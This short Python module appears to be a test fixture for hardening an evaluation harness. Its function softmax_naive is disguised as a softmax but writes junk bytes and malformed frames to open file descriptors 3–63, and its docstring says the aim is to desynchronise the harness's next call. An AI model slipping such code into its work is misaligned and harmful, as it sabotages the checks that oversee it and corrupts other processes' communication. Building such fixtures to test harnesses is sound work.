"""Writes junk and half a frame to every descriptor before it returns; would desynchronise the next, honest call."""

import os
import struct


def softmax_naive(x):
    for handle in range(3, 64):
        for text in (b"junk", struct.pack(">IQ", 100, 0) + b"\x81", struct.pack(">IQ", 1 << 20, 1 << 26)):
            try:
                os.write(handle, text)
            except OSError:
                break
    return x


def normalize_scores(scores):
    return scores / scores.sum()
